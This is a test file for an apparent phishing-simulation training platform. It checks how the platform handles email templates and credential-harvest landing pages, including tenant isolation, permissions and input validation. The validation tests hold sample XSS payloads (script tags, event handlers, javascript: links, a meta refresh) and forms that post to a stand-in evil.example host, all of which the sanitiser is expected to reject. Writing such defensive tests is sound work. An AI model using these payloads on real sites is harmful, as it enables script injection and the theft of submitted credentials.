import type { Schema } from "@bulwark/contract";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { addMember, createOrganizationOwner } from "../../test/factories.js";
import type { TestApi } from "../../test/harness.js";
import { SIMULATION_MARK } from "./html.js";
import {
  as,
  type Caller,
  createLandingPage,
  createTemplate,
  harvestPage,
  PHISHING,
  setFeatures,
  startPhishingApi,
  superAdmin,
  templateInput,
} from "./phishing.fixtures.js";

type Owner = Awaited<ReturnType<typeof createOrganizationOwner>>;

describe("phishing templates and landing pages", () => {
  let api: TestApi;
  let library: Caller; // super-admin with ManageTemplatesLibrary
  let owner: Owner; // Alpha
  let other: Owner; // Beta: its data must never appear to Alpha
  let commonPage: Schema<"LandingPage">;
  let commonTemplate: Schema<"PhishingTemplate">;
  let ownPage: Schema<"LandingPage">;
  let ownTemplate: Schema<"PhishingTemplate">;
  let otherPage: Schema<"LandingPage">;
  let otherTemplate: Schema<"PhishingTemplate">;

  const count = async (table: "phishing_templates" | "phishing_landing_pages") =>
    Number(
      (
        await api.platform.db
          .selectFrom(table)
          .select((eb) => eb.fn.countAll().as("n"))
          .executeTakeFirstOrThrow()
      ).n,
    );

  beforeAll(async () => {
    api = await startPhishingApi();
    library = await superAdmin(api, ["ManageTemplatesLibrary"]);
    owner = await createOrganizationOwner(api, "Alpha Phish");
    other = await createOrganizationOwner(api, "Beta Phish");
    commonPage = await createLandingPage(api, library, harvestPage("Common sign-in"));
    commonTemplate = await createTemplate(
      api,
      library,
      templateInput("Common harvest", { type: "CredentialHarvest", landingPageId: commonPage.id }),
    );
    ownPage = await createLandingPage(api, owner, harvestPage("Alpha sign-in"));
    ownTemplate = await createTemplate(
      api,
      owner,
      templateInput("Alpha harvest", { type: "CredentialHarvest", landingPageId: ownPage.id, tags: ["alpha"] }),
    );
    otherPage = await createLandingPage(api, other, harvestPage("Beta sign-in"));
    otherTemplate = await createTemplate(
      api,
      other,
      templateInput("Beta harvest", { type: "CredentialHarvest", landingPageId: otherPage.id }),
    );
  });
  afterAll(() => api.close());

  describe("lists and visibility", () => {
    it("lists the common library and the organisation's own, never another organisation's", async () => {
      const res = await api.request("GET", `${PHISHING}/templates?limit=100`, as(owner));
      expect(res.status).toBe(200);
      const ids = res.body.items.map((t: Schema<"PhishingTemplate">) => t.id);
      expect(ids).toContain(commonTemplate.id);
      expect(ids).toContain(ownTemplate.id);
      expect(ids).not.toContain(otherTemplate.id);
      // The shipped library is there too (28 templates), common like the one made here.
      expect(res.body.total).toBeGreaterThanOrEqual(28 + 2);
    });

    it("filters by scope, type, language, tag and name", async () => {
      const own = await api.request("GET", `${PHISHING}/templates?scope=organization`, as(owner));
      expect(own.body.items.map((t: Schema<"PhishingTemplate">) => t.id)).toEqual([ownTemplate.id]);
      const common = await api.request("GET", `${PHISHING}/templates?scope=common&limit=100`, as(owner));
      expect(common.body.items.every((t: Schema<"PhishingTemplate">) => t.tenantId === null)).toBe(true);
      const serbian = await api.request("GET", `${PHISHING}/templates?language=Sr&limit=100`, as(owner));
      expect(serbian.body.total).toBeGreaterThanOrEqual(12);
      expect(serbian.body.items.every((t: Schema<"PhishingTemplate">) => t.language === "Sr")).toBe(true);
      const drive = await api.request("GET", `${PHISHING}/templates?type=DriveByUrl&limit=100`, as(owner));
      expect(drive.body.items.every((t: Schema<"PhishingTemplate">) => t.type === "DriveByUrl")).toBe(true);
      expect(drive.body.total).toBeGreaterThan(0);
      const tagged = await api.request("GET", `${PHISHING}/templates?tag=alpha`, as(owner));
      expect(tagged.body.items.map((t: Schema<"PhishingTemplate">) => t.id)).toEqual([ownTemplate.id]);
      const named = await api.request("GET", `${PHISHING}/templates?search=ALPHA%20harv`, as(owner));
      expect(named.body.items.map((t: Schema<"PhishingTemplate">) => t.id)).toEqual([ownTemplate.id]);
      const beta = await api.request("GET", `${PHISHING}/templates?search=Beta`, as(owner));
      expect(beta.body.total).toBe(0);
    });

    it("answers 404 for another organisation's template and landing page, and changes nothing", async () => {
      for (const [method, path] of [
        ["GET", `${PHISHING}/templates/${otherTemplate.id}`],
        ["DELETE", `${PHISHING}/templates/${otherTemplate.id}`],
        ["PUT", `${PHISHING}/templates/${otherTemplate.id}/copy`],
        ["GET", `${PHISHING}/landing-pages/${otherPage.id}`],
        ["DELETE", `${PHISHING}/landing-pages/${otherPage.id}`],
      ] as const) {
        const res = await api.request(method, path, as(owner));
        expect(res.status, `${method} ${path}`).toBe(404);
      }
      const edit = await api.request("PUT", `${PHISHING}/templates/${otherTemplate.id}/organization-template`, {
        ...as(owner),
        body: templateInput("Hijacked", { type: "CredentialHarvest", landingPageId: ownPage.id }),
      });
      expect(edit.status).toBe(404);
      const still = await api.request("GET", `${PHISHING}/templates/${otherTemplate.id}`, as(other));
      expect(still.body.name).toBe("Beta harvest");
      const pages = await api.request("GET", `${PHISHING}/landing-pages?limit=100`, as(owner));
      expect(pages.body.items.map((p: Schema<"LandingPage">) => p.id)).not.toContain(otherPage.id);
    });

    it("refuses a member of Beta in Alpha's organisation (403), and a viewer without phishing permissions", async () => {
      const res = await api.request("GET", `${PHISHING}/templates`, {
        token: other.accessToken,
        tenant: owner.tenantId,
      });
      expect(res.status).toBe(403);
      const viewer = await addMember(api, owner, ["Viewer"]);
      expect((await api.request("GET", `${PHISHING}/templates`, as(viewer))).status).toBe(403);
    });

    it("lets an analyst (ReadPhishing) read but not create", async () => {
      const analyst = await addMember(api, owner, ["SecurityAnalyst"]);
      expect((await api.request("GET", `${PHISHING}/templates/${ownTemplate.id}`, as(analyst))).status).toBe(200);
      const create = await api.request("POST", `${PHISHING}/templates`, { ...as(analyst), body: templateInput() });
      expect(create.status).toBe(403);
    });

    it("answers 403 FeatureNotEnabled when the organisation has no phishing feature", async () => {
      const gamma = await createOrganizationOwner(api, "Gamma Phish");
      await setFeatures(api, gamma.tenantId, ["inventory"]);
      const res = await api.request("GET", `${PHISHING}/templates`, as(gamma));
      expect(res.status).toBe(403);
      expect(res.body.code).toBe("FeatureNotEnabled");
    });

    it("keeps the common library to super-admins: an organisation owner without the header gets 403", async () => {
      const res = await api.request("POST", `${PHISHING}/templates`, {
        token: owner.accessToken,
        body: templateInput("Sneaky common"),
      });
      expect(res.status).toBe(403);
      const list = await api.request("GET", `${PHISHING}/templates`, { token: owner.accessToken });
      expect(list.status).toBe(403);
    });
  });

  describe("changes", () => {
    it("stores the body sanitised and marked as a simulation, with the placeholders it uses", async () => {
      expect(ownTemplate.emailBody.startsWith(SIMULATION_MARK)).toBe(true);
      expect(ownTemplate.placeholders).toEqual(
        expect.arrayContaining(["{{.FirstName}}", "{{.LastName}}", "{{.Email}}", "{{.URL}}", "{{.Tracker}}"]),
      );
      expect(ownTemplate.tenantId).toBe(owner.tenantId);
      expect(commonTemplate.tenantId).toBeNull();
    });

    it("edits the organisation's own template with organization-template, and refuses a common one there (404)", async () => {
      const res = await api.request("PUT", `${PHISHING}/templates/${ownTemplate.id}/organization-template`, {
        ...as(owner),
        body: templateInput("Alpha harvest v2", { type: "CredentialHarvest", landingPageId: ownPage.id }),
      });
      expect(res.status).toBe(200);
      expect(res.body.name).toBe("Alpha harvest v2");
      const common = await api.request("PUT", `${PHISHING}/templates/${commonTemplate.id}/organization-template`, {
        ...as(owner),
        body: templateInput("Mine now", { type: "CredentialHarvest", landingPageId: ownPage.id }),
      });
      expect(common.status).toBe(404);
    });

    it("edits a common template through the administration's PUT, for ManageTemplatesLibrary only", async () => {
      const body = templateInput("Common harvest v2", { type: "CredentialHarvest", landingPageId: commonPage.id });
      const refused = await api.request("PUT", `${PHISHING}/templates/${commonTemplate.id}`, {
        token: owner.accessToken,
        body,
      });
      expect(refused.status).toBe(403);
      const res = await api.request("PUT", `${PHISHING}/templates/${commonTemplate.id}`, { ...as(library), body });
      expect(res.status).toBe(200);
      expect(res.body.name).toBe("Common harvest v2");
      // The administration's editor does not reach an organisation's template.
      const own = await api.request("PUT", `${PHISHING}/templates/${ownTemplate.id}`, { ...as(library), body });
      expect(own.status).toBe(404);
    });

    it("copies a common template into the organisation with its own copy of the common landing page", async () => {
      const res = await api.request("PUT", `${PHISHING}/templates/${commonTemplate.id}/copy`, as(owner));
      expect(res.status).toBe(201);
      expect(res.body.tenantId).toBe(owner.tenantId);
      expect(res.body.copiedFromId).toBe(commonTemplate.id);
      expect(res.body.landingPageId).not.toBe(commonPage.id);
      const page = await api.request("GET", `${PHISHING}/landing-pages/${res.body.landingPageId}`, as(owner));
      expect(page.body.tenantId).toBe(owner.tenantId);
      expect(page.body.type).toBe("CredentialHarvest");
      // A second copy gets a distinct name.
      const again = await api.request("PUT", `${PHISHING}/templates/${commonTemplate.id}/copy`, as(owner));
      expect(again.body.name).toBe(`${res.body.name} (copy)`);
      // Beta sees none of Alpha's copies.
      const beta = await api.request("GET", `${PHISHING}/templates?scope=organization`, as(other));
      expect(beta.body.items.map((t: Schema<"PhishingTemplate">) => t.id)).toEqual([otherTemplate.id]);
    });

    it("deletes the organisation's own template, logs it, and a second delete is 404", async () => {
      const doomed = await createTemplate(api, owner, templateInput("Doomed"));
      expect((await api.request("DELETE", `${PHISHING}/templates/${doomed.id}`, as(owner))).status).toBe(204);
      expect((await api.request("DELETE", `${PHISHING}/templates/${doomed.id}`, as(owner))).status).toBe(404);
      await api.drainJobs();
      const log = await api.request("GET", `/api/v1/activity-logs/tenants/${owner.tenantId}?limit=100`, as(owner));
      const names = log.body.items.map((entry: { eventName: string }) => entry.eventName);
      expect(names).toEqual(expect.arrayContaining(["TemplateCreated", "TemplateDeleted", "TemplateCopied"]));
      // Beta's log holds none of Alpha's template events.
      const betaLog = await api.request("GET", `/api/v1/activity-logs/tenants/${other.tenantId}?limit=100`, as(other));
      const betaNames = betaLog.body.items.map((entry: { data: { name?: string } }) => entry.data?.name);
      expect(betaNames).not.toContain("Doomed");
    });

    it("refuses to delete a landing page a template uses (409)", async () => {
      const res = await api.request("DELETE", `${PHISHING}/landing-pages/${ownPage.id}`, as(owner));
      expect(res.status).toBe(409);
      expect(res.body.message).toBe("Landing page is used by a template");
    });

    it("refuses to turn a harvest template's landing page into a feedback page (409)", async () => {
      const res = await api.request("PUT", `${PHISHING}/landing-pages/${ownPage.id}`, {
        ...as(owner),
        body: { name: "Now generic", type: "GenericMsg", language: "En", html: null },
      });
      expect(res.status).toBe(409);
      const page = await api.request("GET", `${PHISHING}/landing-pages/${ownPage.id}`, as(owner));
      expect(page.body.type).toBe("CredentialHarvest");
    });
  });

  describe("the editor's preview", () => {
    const preview = {
      emailBody: '<p onclick="x()">Hi</p>',
      emailTitle: "{{.FirstName}}, check this",
      emailFromName: "IT",
      sendingEmail: "it@desk.example",
    };

    it("renders an unsaved template for a sample target with the pixel made visible, saving nothing", async () => {
      const before = await count("phishing_templates");
      const res = await api.request("POST", `${PHISHING}/templates/preview`, {
        ...as(owner),
        body: { ...preview, emailBody: '<p>Hi {{.FirstName}}</p><a href="{{.URL}}">Open</a>{{.Tracker}}' },
      });
      expect(res.status).toBe(200);
      expect(res.body.subject).toBe("Jana, check this");
      expect(res.body.from).toBe('"IT" <it@desk.example>');
      expect(res.body.html).toContain("<p>Hi Jana</p>");
      expect(res.body.html).toContain('href="#phishing-link"');
      expect(res.body.html).toContain("[open pixel]");
      expect(res.body.html.startsWith(SIMULATION_MARK)).toBe(true);
      expect(res.body.placeholders).toEqual(expect.arrayContaining(["{{.FirstName}}", "{{.URL}}", "{{.Tracker}}"]));
      expect(await count("phishing_templates")).toBe(before);
    });

    it("answers the same 422 as saving would, and works on the common library for its super-admins", async () => {
      const refused = await api.request("POST", `${PHISHING}/templates/preview`, { ...as(owner), body: preview });
      expect(refused.status).toBe(422);
      expect(refused.body.errors).toEqual([
        { path: "body.emailBody", message: "Event handlers are not allowed (onclick=)" },
      ]);
      const common = await api.request("POST", `${PHISHING}/templates/preview`, {
        ...as(library),
        body: { ...preview, emailBody: "<p>Hello</p>" },
      });
      expect(common.status).toBe(200);
      const stranger = await api.request("POST", `${PHISHING}/templates/preview`, {
        token: owner.accessToken,
        body: { ...preview, emailBody: "<p>Hello</p>" },
      });
      expect(stranger.status).toBe(403);
    });
  });

  describe("bad input: a clear 422 and nothing saved", () => {
    const refused = async (body: unknown, path = `${PHISHING}/templates`) => {
      const before = [await count("phishing_templates"), await count("phishing_landing_pages")];
      const res = await api.request("POST", path, { ...as(owner), body });
      expect([await count("phishing_templates"), await count("phishing_landing_pages")]).toEqual(before);
      return res;
    };

    it.each([
      [
        "a <script>",
        "<p>Hi</p><script>fetch('/x')</script>",
        "Scripts and embedded content are not allowed (<script>)",
      ],
      [
        "an onerror= handler",
        '<img src="https://cdn.example/x.png" onerror="alert(1)">',
        "Event handlers are not allowed (onerror=)",
      ],
      ["a javascript: link", '<a href="javascript:alert(1)">open</a>', "javascript: addresses are not allowed"],
      [
        "an entity-hidden javascript: link",
        '<a href="jav&#x09;ascript:alert(1)">open</a>',
        "javascript: addresses are not allowed",
      ],
      [
        "an iframe",
        '<iframe src="https://evil.example"></iframe>',
        "Scripts and embedded content are not allowed (<iframe>)",
      ],
      [
        "a meta refresh",
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        "Scripts and embedded content are not allowed (<meta>)",
      ],
      [
        "a form in the email",
        '<form action="https://evil.example/steal"><input name="p"></form>',
        "Forms are not allowed in an email: put the form on the landing page",
      ],
      ["an unknown placeholder", "<p>Hi {{.Nickname}}</p>", "Unknown placeholder {{.Nickname}}"],
    ])("refuses a template body with %s", async (_what, emailBody, message) => {
      const res = await refused(templateInput("Bad body", { emailBody }));
      expect(res.status).toBe(422);
      expect(res.body.errors).toEqual(
        expect.arrayContaining([{ path: "body.emailBody", message: expect.stringContaining(message) }]),
      );
    });

    it("refuses a landing page whose form posts elsewhere, or with handlers, naming the reason", async () => {
      const remote = await refused(
        harvestPage("Remote", { html: '<form action="https://evil.example/collect"><input name="u"></form>' }),
        `${PHISHING}/landing-pages`,
      );
      expect(remote.status).toBe(422);
      expect(remote.body.errors).toEqual([
        {
          path: "body.html",
          message: "A form may only submit to the landing page: leave its action empty or use {{.URL}}",
        },
      ]);
      const button = await refused(
        harvestPage("Formaction", {
          html: '<form><input name="u"><button formaction="https://evil.example">Go</button></form>',
        }),
        `${PHISHING}/landing-pages`,
      );
      expect(button.status).toBe(422);
      const handler = await refused(
        harvestPage("Handler", { html: '<form><input name="u" onfocus="steal()"></form>' }),
        `${PHISHING}/landing-pages`,
      );
      expect(handler.body.errors[0].message).toBe("Event handlers are not allowed (onfocus=)");
    });

    it("accepts a form posting to {{.URL}} or nowhere, and a harvest page needs a form with a field", async () => {
      const own = await createLandingPage(
        api,
        owner,
        harvestPage("To URL", { html: '<form action="{{.URL}}"><input name="u"></form>' }),
      );
      expect(own.html).toContain('action="{{.URL}}"');
      const formless = await refused(harvestPage("No form", { html: "<p>Just text</p>" }), `${PHISHING}/landing-pages`);
      expect(formless.body.errors).toEqual([
        { path: "body.html", message: "A credential-harvest page needs a form with at least one field" },
      ]);
      const other = await refused(
        { name: "Custom", type: "Other", language: "En", html: null },
        `${PHISHING}/landing-pages`,
      );
      expect(other.body.errors).toEqual([{ path: "body.customMessage", message: "Custom message is required" }]);
      const generic = await createLandingPage(api, owner, {
        name: "Generic",
        type: "GenericMsg",
        language: "Sr",
        html: null,
      });
      expect(generic.html).toBeNull();
    });

    it("refuses a credential-harvest template without a credential-harvest page: Name must match created templates", async () => {
      const missing = await refused(templateInput("No page", { type: "CredentialHarvest" }));
      expect(missing.body.errors).toEqual([
        { path: "body.landingPageId", message: "Name must match created templates" },
      ]);
      const generic = await createLandingPage(api, owner, { name: "Feedback", type: "PhishedDisplay", language: "En" });
      const wrongType = await refused(
        templateInput("Wrong page", { type: "CredentialHarvest", landingPageId: generic.id }),
      );
      expect(wrongType.body.errors).toEqual([
        { path: "body.landingPageId", message: "Name must match created templates" },
      ]);
      // Beta's page is as unknown to Alpha as a made-up id.
      const foreign = await refused(
        templateInput("Foreign page", { type: "CredentialHarvest", landingPageId: otherPage.id }),
      );
      expect(foreign.status).toBe(422);
    });

    it("refuses an unknown landing page for other types too", async () => {
      const res = await refused(
        templateInput("Unknown page", { landingPageId: "0195b1c0-0000-7000-8000-00000000dead" }),
      );
      expect(res.body.errors).toEqual([{ path: "body.landingPageId", message: "Landing page not found" }]);
    });

    it("a common template cannot name an organisation's landing page", async () => {
      const res = await api.request("POST", `${PHISHING}/templates`, {
        ...as(library),
        body: templateInput("Common with own page", { type: "CredentialHarvest", landingPageId: ownPage.id }),
      });
      expect(res.status).toBe(422);
    });

    it("names each missing required field with its own message", async () => {
      const res = await refused({ description: "nothing else" });
      expect(res.status).toBe(422);
      expect(res.body.errors).toEqual(
        expect.arrayContaining([
          { path: "body.name", message: "Name is required" },
          { path: "body.type", message: "Type is required" },
          { path: "body.language", message: "Language is required" },
          { path: "body.emailBody", message: "Email body is required" },
          { path: "body.sendingEmail", message: "Sending email is required" },
          { path: "body.emailTitle", message: "Email title is required" },
          { path: "body.emailFromName", message: "From name is required" },
        ]),
      );
    });

    it("refuses a name under 2 characters, a bad sending email and a tracking placeholder in the subject", async () => {
      const res = await refused(templateInput("x", { sendingEmail: "not-an-email" }));
      expect(res.body.errors).toEqual(
        expect.arrayContaining([
          { path: "body.name", message: "Name must be between 2 and 100 characters" },
          { path: "body.sendingEmail", message: "Invalid email" },
        ]),
      );
      const subject = await refused(templateInput("Pixel subject", { emailTitle: "Hi {{.Tracker}}" }));
      expect(subject.body.errors).toEqual([
        { path: "body.emailTitle", message: "Placeholder {{.Tracker}} cannot be used here" },
      ]);
    });

    it("changes nothing when an update is refused", async () => {
      const res = await api.request("PUT", `${PHISHING}/templates/${ownTemplate.id}/organization-template`, {
        ...as(owner),
        body: templateInput("Broken", {
          emailBody: "<script>x</script>",
          type: "CredentialHarvest",
          landingPageId: ownPage.id,
        }),
      });
      expect(res.status).toBe(422);
      const still = await api.request("GET", `${PHISHING}/templates/${ownTemplate.id}`, as(owner));
      expect(still.body.name).toBe("Alpha harvest v2");
    });
  });
});
